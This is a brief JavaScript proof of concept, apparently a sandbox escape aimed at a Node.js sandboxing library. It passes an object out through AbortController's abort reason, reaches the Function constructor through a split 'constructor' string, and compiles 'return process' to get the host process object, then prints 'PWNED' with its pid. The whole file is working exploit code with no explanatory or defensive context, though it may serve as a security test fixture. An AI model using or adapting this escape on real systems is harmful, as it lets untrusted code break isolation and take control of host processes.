'use strict';
const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
const c = new AbortController();
c.abort(t);
const o = Date.now() > 1 ? c.signal.reason : {};
console.log('PWNED', o.go(fn)('return process')().pid);
